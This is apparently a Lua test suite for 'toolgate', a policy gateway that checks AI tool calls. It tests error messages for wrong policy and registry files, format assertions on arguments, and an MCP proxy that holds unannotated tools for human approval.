  local dir, registry
  setup(function()
    dir = h.tmpname(".policyarg")
    assert.equal(0, (h.run("mkdir -p " .. h.shell_quote(dir))))
    h.write_file(dir .. "/p.yaml", "# my policy\nname: mine\nstages:\n  - rung\n")
    h.write_file(dir .. "/p.json", '{\n  "name": "mine",\n  "stages": ["rung"]\n}\n')
    registry = h.root .. "/examples/quickstart/openai-tools.json"
  end)
  teardown(function()
    if dir then h.run("rm -rf " .. h.shell_quote(dir)) end
  end)
  local function check_in_dir(policy)
    return h.run(string.format("cd %s && %s %s/bin/toolgate check --policy %s --registry %s", h.shell_quote(dir),
      h.lua, h.root, h.shell_quote(policy), h.shell_quote(registry)), "")
  end

  for _, c in ipairs({ { "p.yaml", "YAML" }, { "./p.yaml", "YAML" }, { "p.json", "JSON" }, { "./p.json", "JSON" } }) do
    it("--policy " .. c[1] .. " says it is not a Lua policy file but looks like " .. c[2], function()
      local code, out, err = check_in_dir(c[1])
      assert.equal(2, code)
      assert.equal("", out)
      assert.equal("toolgate check: POLICY_LOAD: " .. c[1] .. " is not a Lua policy file: it looks like " .. c[2]
        .. "; a policy is a Lua file that returns a table (see docs/policies.md; the shipped policy example is a "
        .. "template to copy)\n", err)
    end)
  end

  it("--policy naming a Lua file without .lua in this directory says to give it as a path", function()
    h.write_file(dir .. "/mine", 'return { name = "mine", version = "1", stages = { "rung" } }\n')
    local code, _, err = check_in_dir("mine")
    assert.equal(2, code)
    assert.matches("toolgate check: POLICY_LOAD: mine is a file here, not a shipped policy's name: to load it as a "
      .. "policy file, give its path, ./mine\n", err, 1, true)
    code, _, err = check_in_dir("./mine")
    assert.equal(0, code, err)
  end)

  it("a name that is no file keeps the suggestion of a policy file of one's own", function()
    local code, _, err = check_in_dir("strcit")
    assert.equal(2, code)
    assert.matches("no shipped policy named 'strcit'", err, 1, true)
    assert.matches("./strcit.lua", err, 1, true)
  end)

  it("policy lint and gateway, which find the policy themselves, say the same of a YAML file", function()
    local code, out, err = h.run(string.format("cd %s && %s %s/bin/toolgate policy lint p.yaml", h.shell_quote(dir),
      h.lua, h.root))
    assert.equal(2, code)
    assert.equal("", out)
    assert.matches("toolgate policy lint: p.yaml is not a Lua policy file: it looks like YAML;", err, 1, true)
    code, out, err = h.run(string.format("cd %s && %s %s/bin/toolgate policy lint ./p.json", h.shell_quote(dir),
      h.lua, h.root))
    assert.equal(2, code, err)
    assert.equal("./p.json: error: POLICY_LOAD: ./p.json is not a Lua policy file: it looks like JSON; a policy is a "
      .. "Lua file that returns a table (see docs/policies.md; the shipped policy example is a template to copy)\n", out)
    code, out, err = h.run(string.format("cd %s && %s %s/bin/toolgate gateway --conf-only --prefix %s --listen "
      .. "127.0.0.1:1 --upstream s=http://127.0.0.1:2/mcp --registry s=%s --policy p.yaml", h.shell_quote(dir), h.lua,
      h.root, h.shell_quote(dir .. "/gw"), h.shell_quote(h.root .. "/examples/registries/mcp-memory.json")))
    assert.equal(2, code, out .. err)
    assert.matches("toolgate gateway: p.yaml is not a Lua policy file: it looks like YAML;", err, 1, true)
  end)
end)

describe("toolgate test: a failing case says what the decision was", function()
  local dir, policy, cases
  local REGISTRY = "memory=" .. h.root .. "/examples/registries/mcp-memory.json"
  setup(function()
    dir = h.tmpname(".failingcase")
    assert.equal(0, (h.run("mkdir -p " .. h.shell_quote(dir))))
    policy, cases = dir .. "/owner.lua", dir .. "/cases.jsonl"
    -- line 7 reads the tool argument without reads_contract: it gets nil
    h.write_file(policy, [[
return {
  name = "owner", version = "1",
  stages = {
    "rung",
    { name = "tool_owner", code = "OWNER",
      run = function(call, tool, ctx)
        return tool.owner ~= nil
      end },
  },
}
]])
    h.write_file(cases, '{"call":{"server":"memory","name":"read_graph","arguments":{}},"expect":{"verdict":"accept"}}\n'
      .. '{"call":{"server":"memory","name":"read_grahp","arguments":{}},"expect":{"verdict":"accept"}}\n')
  end)
  teardown(function()
    if dir then h.run("rm -rf " .. h.shell_quote(dir)) end
  end)

  it("names the decision's code, stage and message: a policy function's error with its file and line", function()
    local code, out, err = h.toolgate("test --policy " .. h.shell_quote(policy) .. " --registry "
      .. h.shell_quote(REGISTRY) .. " " .. h.shell_quote(cases))
    assert.equal(1, code, err)
    local lines = h.lines_of(out)
    assert.equal(3, #lines, out)
    -- the rest of Lua's message differs: "a nil value (local 'tool')" (5.4), "local 'tool' (a nil value)" (LuaJIT)
    local want = cases .. ':1: verdict: expected "accept", got "reject"; decision: POLICY_ERROR from tool_owner: '
      .. "policy function failed: " .. policy .. ":7: attempt to index"
    assert.equal(want, lines[1]:sub(1, #want))
    assert.matches(cases .. ':2: verdict: expected "accept", got "reject"; decision: H1 from rung: ', lines[2], 1, true)
    assert.equal("0 passed, 2 failed", lines[3])
  end)
end)

describe("toolgate check, given what a user has that is not a call or a registry", function()
  local tools = h.root .. "/examples/quickstart/openai-tools.json"
  local saved = h.root .. "/examples/quickstart/chat_response.json"
  local request = '{"model":"gpt-4o","messages":[{"role":"user","content":"Weather in Paris?"}],'
    .. '"tools":' .. h.read_file(tools) .. ',"tool_choice":"auto"}'
  local yaml = "- type: function\n  function:\n    name: get_weather\n    parameters:\n      type: object\n"

  it("names an OpenAI request body given as calls, and where its tools are", function()
    local code, out = h.toolgate("check --policy rung --registry " .. tools, request .. "\n")
    assert.equal(0, code)
    assert.matches('"code":"BAD_CALL"', out, 1, true)
    assert.matches('a request to a model (it has \\"messages\\"), not a tool call: the calls are in its '
      .. 'response; its tools (.tools) are a registry (jq .tools FILE > tools.json; --registry tools.json)', out, 1, true)
  end)

  it("names an OpenAI request body given as a registry, and where its tools are", function()
    local file = h.tmpname(".json")
    h.write_file(file, request)
    local code, out, err = h.toolgate("check --policy rung --registry " .. file, "")
    os.remove(file)
    assert.equal(2, code)
    assert.equal("", out)
    assert.equal("toolgate check: BAD_REGISTRY: " .. file .. ": a request to a model (it has \"messages\"), not a "
      .. "registry: its tools are under \"tools\" (jq .tools FILE > tools.json; --registry tools.json)\n", err)
  end)

  it("says a YAML registry is not JSON, the code said once", function()
    local file = h.tmpname(".yaml")
    h.write_file(file, yaml)
    local code, _, err = h.toolgate("check --policy rung --registry " .. file, "")
    os.remove(file)
    assert.equal(2, code)
    assert.equal("toolgate check: INVALID_NUMBER: " .. file .. ": not JSON (YAML?): at byte 0: minus sign must be "
      .. "followed by a digit\n", err)
  end)

  it("refuses a YAML file of calls in one reject that says it is not JSON", function()
    local code, out, err = h.toolgate("check --policy rung --registry " .. tools, yaml)
    assert.equal(0, code)
    local lines = h.lines_of(out)
    assert.equal(1, #lines)
    assert.matches('"code":"INVALID_NUMBER","line":1,"message":"not JSON (YAML?): minus sign must be followed by a '
      .. 'digit","offset":0,', lines[1], 1, true)
    assert.matches("<stdin>:1: the document there was refused", err, 1, true)
  end)

  it("names an array of chat.completion responses (jq -s), compact or pretty", function()
    local _, one = h.toolgate("canon " .. saved)
    for _, text in ipairs({ "[" .. one:sub(1, -2) .. "," .. one:sub(1, -2) .. "]\n",
        "[\n" .. h.read_file(saved) .. ",\n" .. h.read_file(saved) .. "]\n" }) do
      local code, out = h.toolgate("check --policy rung --registry " .. tools, text)
      assert.equal(0, code)
      local lines = h.lines_of(out)
      assert.equal(1, #lines)
      assert.matches('"code":"BAD_CALL","line":1,"message":"[0] is an OpenAI chat.completion: an array of responses '
        .. "or messages (as jq -s makes) is not one call shape; give one per line (jq -c '.[]')\"", lines[1], 1, true)
    end
  end)
end)

describe("toolgate check --format", function()
  local tools = h.root .. "/examples/quickstart/openai-tools.json"
  local saved = h.root .. "/examples/quickstart/chat_response.json"

  it("takes every name a decision's format shows, as the core names its shapes, reading its family", function()
    local names = {}
    for name in h.read_file(h.root .. "/core/tg_call.c"):gmatch('%[TG_SHAPE_[%w_]+%] = "([%w%-]+)"') do
      names[#names + 1] = name
    end
    assert.is_true(#names >= 11)
    for _, name in ipairs(names) do
      local code, _, err = h.toolgate("check --policy rung --registry " .. tools .. " --format " .. name, "")
      assert.equal(0, code, name .. ": " .. err)
    end
    local _, family = h.toolgate("check --policy rung --registry " .. tools .. " --format openai " .. saved)
    local code, out, err = h.toolgate("check --policy rung --registry " .. tools .. " --format openai-chat " .. saved)
    assert.equal(0, code, err)
    assert.equal(family, out)
    assert.matches('"format":"openai-chat"', out, 1, true)
    code, _, err = h.toolgate("check --policy rung --registry " .. tools .. " --format openai-chatt", "")
    assert.equal(2, code)
    assert.matches("unknown --format openai-chatt", err, 1, true)
  end)
end)

describe("--assert-formats on the commands that load a registry", function()
  local dir, tools
  setup(function()
    dir = h.tmpname(".formats")
    assert.equal(0, (h.run("mkdir -p " .. h.shell_quote(dir))))
    tools = dir .. "/tools.json"
    h.write_file(tools, [[
[{"type":"function","function":{"name":"send_email","description":"Send an email",
  "parameters":{"type":"object","properties":{"to":{"type":"string","format":"email"},
    "id":{"type":"string","format":"uuid"},"on":{"type":"string","format":"date"}},"required":["to"]}}}]
]])
  end)
  teardown(function()
    if dir then h.run("rm -rf " .. h.shell_quote(dir)) end
  end)

  local BAD = '{"name":"send_email","arguments":{"to":"not an email"}}\n'
  local GOOD = '{"name":"send_email","arguments":{"to":"ana@example.com","id":"9b2e0c4e-5f5a-4c1e-9f0a-2d6b7c8e9f01",'
    .. '"on":"2026-02-28"}}\n'

  it("check --policy rung --assert-formats: an email that is not an email is H3; without the flag it passes", function()
    local code, out, err = h.toolgate("check --policy rung --assert-formats --registry " .. h.shell_quote(tools), BAD)
    assert.equal(0, code, err)
    assert.matches('"code":"H3"', out, 1, true)
    assert.matches('"path":"/to"', out, 1, true)
    assert.matches('"verdict":"reject"', out, 1, true)
    code, out, err = h.toolgate("check --policy rung --registry " .. h.shell_quote(tools), BAD)
    assert.equal(0, code, err)
    assert.matches('"verdict":"accept"', out, 1, true)
    code, out, err = h.toolgate("check --policy rung --assert-formats --registry " .. h.shell_quote(tools), GOOD)
    assert.equal(0, code, err)
    assert.matches('"verdict":"accept"', out, 1, true)
    for _, v in ipairs({ '"id":"not-a-uuid"', '"on":"2026-02-30"' }) do
      code, out = h.toolgate("check --policy rung --assert-formats --registry " .. h.shell_quote(tools),
        '{"name":"send_email","arguments":{"to":"ana@example.com",' .. v .. '}}\n')
      assert.equal(0, code)
      assert.matches('"code":"H3"', out, 1, true)
    end
  end)

  it("is in the --help of each command that takes it", function()
    for _, cmd in ipairs({ "check", "classify", "test", "mcp-proxy" }) do
      local code, out = h.toolgate(cmd .. " --help")
      assert.equal(0, code)
      assert.matches("\n  --assert-formats ", out, 1, true)
    end
  end)

  it("a format toolgate cannot check fails the load under --assert-formats, as validate's does", function()
    local odd = dir .. "/odd.json"
    h.write_file(odd, '[{"type":"function","function":{"name":"f","parameters":{"type":"object","properties":'
      .. '{"to":{"type":"string","format":"idn-email"}}}}}]')
    local code, out, err = h.toolgate("check --policy rung --assert-formats --registry " .. h.shell_quote(odd), BAD)
    assert.equal(2, code)
    assert.equal("", out)
    assert.matches("UNSUPPORTED_FORMAT", err, 1, true)
  end)

  it("toolgate test --assert-formats decides its cases as check --assert-formats does", function()
    local cases = dir .. "/cases.jsonl"
    h.write_file(cases, '{"call":' .. BAD:sub(1, -2) .. ',"expect":{"verdict":"reject","code":"H3","path":"/to"}}\n')
    local code, out = h.toolgate("test --policy rung --assert-formats --registry " .. h.shell_quote(tools) .. " "
      .. h.shell_quote(cases))
    assert.equal(0, code, out)
    assert.equal("1 passed, 0 failed\n", out)
    code = h.toolgate("test --policy rung --registry " .. h.shell_quote(tools) .. " " .. h.shell_quote(cases))
    assert.equal(1, code)
  end)

  it("classify --assert-formats: a plan whose arguments fail a format gets the rung's H3", function()
    local plan = '{"plan_id":"p","tool":{"server":"","name":"send_email","deterministic":true,"verified":true},'
      .. '"epoch_fixed":true,"samples":[{"arguments":{"to":"x"},"result":1,"epoch":"e"},'
      .. '{"arguments":{"to":"x"},"result":1,"epoch":"e"},{"arguments":{"to":"x"},"result":1,"epoch":"e"}]}\n'
    local code, out, err = h.toolgate("classify --policy rung --assert-formats --registry " .. h.shell_quote(tools), plan)
    assert.equal(0, code, err)
    assert.matches('"code":"H3"', out, 1, true)
    code, out, err = h.toolgate("classify --policy rung --registry " .. h.shell_quote(tools), plan)
    assert.equal(0, code, err)
    assert.not_matches('"code":"H3"', out, 1, true)
  end)

  it("mcp-proxy says at load that a recorded server's tools carry no annotations, defers their calls saying why, "
    .. "and lets them through after the documented one-line policy change", function()
    assert.is_true(h.have("node"), "node is needed (make test installs it)")
    local server = "node " .. h.shell_quote(h.root .. "/nginx/test/bare-monitor.mjs")
    local reg, ctx = dir .. "/monitor.json", dir .. "/monitor.ctx"
    local code, out, err = h.toolgate("registry record --server monitor --output " .. h.shell_quote(reg) .. " -- "
      .. server)
    assert.equal(0, code, out .. err)
    h.write_file(ctx, '{"scopes":["monitor:read","monitor:write"]}')
    local input = '{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18",'
      .. '"capabilities":{},"clientInfo":{"name":"spec","version":"1"}}}\n'
      .. '{"jsonrpc":"2.0","method":"notifications/initialized"}\n'
      .. '{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"get-system-info","arguments":{}}}\n'
    local function proxy(policy)
      return h.run(string.format("env XDG_STATE_HOME=%s timeout 60 %s %s/bin/toolgate mcp-proxy --policy %s "
        .. "--context %s --registry %s -- %s", h.shell_quote(dir .. "/xdg"), h.lua, h.root, h.shell_quote(policy),
        h.shell_quote(ctx), h.shell_quote("monitor=" .. reg), server), input)
    end
    code, out, err = proxy("gateway")
    assert.equal(0, code, err)
    assert.truthy(err:find("toolgate mcp-proxy: server monitor: 2 of 2 tools carry no annotations (MCP's defaults "
      .. 'read them as not read-only, destructive, open world); the policy gives them risk "high" and scope '
      .. "monitor:write", 1, true), err)
    assert.truthy(out:find('"id":2,"result":{"content":[{"type":"text","text":"toolgate asked a person to approve '
      .. "this call to get-system-info (H4: no annotations: MCP's defaults read it as destructive, so a person "
      .. 'approves each call); it has not run.', 1, true), out)
    assert.falsy(out:find("ran get-system-info", 1, true))
    -- the line docs/policies.md gives, in a copy of the shipped policy
    local policy, n = h.read_file(h.root .. "/policies/gateway.lua"):gsub('  registry = { on_shadowing = "allow" },',
      '  registry = { on_shadowing = "allow", tools = { ["monitor/get-system-info"] = { readOnlyHint = true } } },')
    assert.equal(1, n)
    h.write_file(dir .. "/monitor-policy.lua", policy)
    code, out, err = proxy(dir .. "/monitor-policy.lua")
    assert.equal(0, code, err)
    assert.truthy(out:find('"text":"ran get-system-info {}"', 1, true), out)
    assert.truthy(err:find("server monitor: 1 of 2 tools carry no annotations", 1, true), err)
  end)

  it("mcp-proxy --assert-formats refuses a tools/call whose argument fails its format; without it the server answers",
    function()
      assert.is_true(h.have("node"), "node is needed (make test installs it)")
      local reg = dir .. "/echo.json"
      h.write_file(reg, '{"server":"echo","tools":[{"name":"echo","description":"Echoes the message back.",'
        .. '"inputSchema":{"type":"object","properties":{"message":{"type":"string","format":"email"}},'
        .. '"required":["message"]},"annotations":{"readOnlyHint":true,"openWorldHint":false}}]}')
      local input = '{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18",'
        .. '"capabilities":{},"clientInfo":{"name":"spec","version":"1"}}}\n'
        .. '{"jsonrpc":"2.0","method":"notifications/initialized"}\n'
        .. '{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"echo","arguments":{"message":"x"}}}\n'
      local function proxy(flag)
        return h.run(string.format("env XDG_STATE_HOME=%s timeout 60 %s %s/bin/toolgate mcp-proxy %s --policy rung "
          .. "--registry %s -- node %s", h.shell_quote(dir .. "/xdg"), h.lua, h.root, flag,
          h.shell_quote("echo=" .. reg), h.shell_quote(h.root .. "/spec/stdio/echo.mjs")), input)
      end
      local code, out, err = proxy("--assert-formats")
      assert.equal(0, code, err)
      -- a tool result the model reads (mcp.refusal = "result"), saying what the format is
      assert.matches('"id":2,"result":{"content":[{"type":"text","text":"toolgate refused this call to echo: H3 at '
        .. '/message: \\"/message\\": \\"x\\" is not a valid email. echo accepts: message (string, format email, '
        .. 'required). Correct the arguments and call again."}],"isError":true', out, 1, true)
      code, out, err = proxy("")
      assert.equal(0, code, err)
      assert.matches('{"id":2,"jsonrpc":"2.0","result":{"content":[{"text":"x","type":"text"}]}}', out, 1, true)
    end)
end)

describe("an input with nothing in it", function()
  local tools = h.root .. "/examples/quickstart/openai-tools.json"

  it("toolgate test fails a case file that holds no case (exit 2), saying so, whatever its kind", function()
    local jsonl, lua = h.tmpname(".jsonl"), h.tmpname(".lua")
    h.write_file(jsonl, "\n  \n")
    h.write_file(lua, "return {}")
    for _, file in ipairs({ jsonl, lua }) do
      local code, out, err = h.toolgate("test --policy rung --registry " .. tools .. " " .. file)
      assert.equal(2, code, file)
      assert.equal("", out)
      assert.equal("toolgate test: " .. file .. ": no case in it (a run that lost its cases must not pass)\n", err)
    end
    -- beside a file that has cases, too
    local code = h.toolgate("test --policy rung --registry " .. h.root .. "/policies/tests/rung.json "
      .. h.root .. "/policies/tests/rung.jsonl " .. jsonl)
    assert.equal(2, code)
    os.remove(jsonl)
    os.remove(lua)
  end)

  it("toolgate check says on stderr that it read no call, exit 0 still", function()
    local empty = h.tmpname(".jsonl")
    h.write_file(empty, "")
    local code, out, err = h.toolgate("check --policy rung --registry " .. tools .. " " .. empty)
    assert.equal(0, code)
    assert.equal("", out)
    assert.equal("toolgate check: " .. empty .. ": no call in it (an empty input, or text-only messages)\n", err)
    os.remove(empty)
    code, out, err = h.toolgate("check --policy rung --registry " .. tools,
      '{"role":"assistant","content":"no tool needed","refusal":null,"annotations":[]}\n')
    assert.equal(0, code)
    assert.equal("", out)
    assert.equal("toolgate check: <stdin>: no call in it (an empty input, or text-only messages)\n", err)
    code, out, err = h.toolgate("check --policy rung --registry " .. tools,
      h.read_file(h.root .. "/examples/quickstart/openai-calls.jsonl"))
    assert.equal(0, code)
    assert.equal(4, #h.lines_of(out))
    assert.equal("", err)
  end)
end)
